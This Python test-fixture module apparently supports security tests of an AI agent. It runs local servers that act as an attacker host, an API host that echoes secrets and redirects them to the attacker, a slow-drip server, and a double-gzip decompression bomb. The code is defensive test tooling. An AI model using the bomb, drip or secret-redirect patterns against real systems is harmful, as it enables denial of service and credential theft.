"""Servers that play the world's part in attacks: a bound API host, an attacker, a drip, a bomb.

Each records every request it receives byte for byte (request line, headers,
body), so a test can search everything that reached it for a secret in any
encoding. ``127.0.0.2`` stands in for a public host the agent could reach.
"""

from __future__ import annotations

import base64
import gzip
import socket
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from brainstem.core.secrets import secret_forms

ATTACKER_HOST = "127.0.0.2"


class _Recording(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def _record(self) -> bytes:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        raw = (self.requestline + "\r\n" + str(self.headers)).encode("latin-1", "replace") + b"\r\n" + body
        with self.server.lock:
            self.server.seen.append(raw)
        return body

    def _send(self, status: int, body: bytes = b"", headers: dict | None = None) -> None:
        self.send_response(status)
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):  # noqa: N802
        self._record()
        self.server.route(self)

    do_POST = do_PUT = do_DELETE = do_GET  # noqa: N815


class Host:
    """A recording HTTP server on ``host``; ``route(handler)`` answers (default: 200 "ok")."""

    def __init__(self, host: str = "127.0.0.1", route=None):
        self.server = ThreadingHTTPServer((host, 0), _Recording)
        self.server.daemon_threads = True
        self.server.seen = []
        self.server.lock = threading.Lock()
        self.server.route = route or (lambda h: h._send(200, b"ok", {"Content-Type": "text/plain"}))
        self.base = f"http://{host}:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    @property
    def seen(self) -> list[bytes]:
        with self.server.lock:
            return list(self.server.seen)

    def received(self, secret: str) -> list[str]:
        """The forms of ``secret`` found in anything this server received."""
        blob = b"\n".join(self.seen).decode("latin-1")
        return sorted(f for f in secret_forms(secret) if f in blob)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def bound_api(attacker_base: str) -> Host:
    """The operator's API host: echoes what it is sent back in many encodings, and redirects."""
    def route(h: _Recording) -> None:
        key = h.headers.get("X-Key", "")
        path = h.path.split("?", 1)[0]
        if path == "/echo":
            raw = key.encode()
            body = "\n".join([key, key[::-1], base64.b64encode(raw).decode(), raw.hex(),
                              base64.b64encode(b"Bearer " + raw).decode()]).encode()
            h._send(200, body, {"Content-Type": "text/plain", "X-Echo": key})
        elif path == "/echo-exact":
            h._send(200, key.encode(), {"Content-Type": "text/plain", "X-Echo": key})
        elif path == "/echo-upper":
            h._send(200, f"your key is {key.upper()}".encode(), {"Content-Type": "text/plain"})
        elif path == "/echo-json":
            escaped = "".join(f"\\u{ord(c):04x}" for c in key)
            h._send(200, ('{"key": "' + escaped + '"}').encode(), {"Content-Type": "application/json"})
        elif path == "/redirect-to-attacker":
            h._send(302, b"", {"Location": attacker_base + "/landed"})
        elif path == "/redirect-with-secret":
            h._send(302, b"", {"Location": attacker_base + "/landed?k=" + key})
        else:
            h._send(200, b"ok", {"Content-Type": "text/plain"})
    return Host("127.0.0.1", route)


class Drip:
    """Accepts, answers the status line, then drips one header byte every ``every`` seconds, forever."""

    def __init__(self, every: float = 1.5):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.every = every
        self.stop = threading.Event()
        self.base = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        self.sock.settimeout(0.2)
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            threading.Thread(target=self._drip, args=(conn,), daemon=True).start()

    def _drip(self, conn: socket.socket) -> None:
        try:
            conn.sendall(b"HTTP/1.1 200 OK\r\nX-Drip: ")
            while not self.stop.wait(self.every):
                conn.sendall(b"a")
        except OSError:
            pass
        finally:
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.sock.close()


def gzip_bomb(inflated_bytes: int = 1 << 30) -> bytes:
    """``inflated_bytes`` of zeros, gzipped, then gzipped again (``Content-Encoding: gzip, gzip``)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    zeros = bytes(1 << 20)
    parts = [comp.compress(zeros) for _ in range(inflated_bytes // len(zeros))]
    once = b"".join(parts) + comp.flush()
    return gzip.compress(once, 9)


def bomb_host(payload: bytes) -> Host:
    def route(h: _Recording) -> None:
        h._send(200, payload, {"Content-Type": "text/plain", "Content-Encoding": "gzip, gzip"})
    return Host("127.0.0.1", route)


def wait_until(pred, timeout: float = 5.0) -> bool:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if pred():
            return True
        time.sleep(0.02)
    return pred()
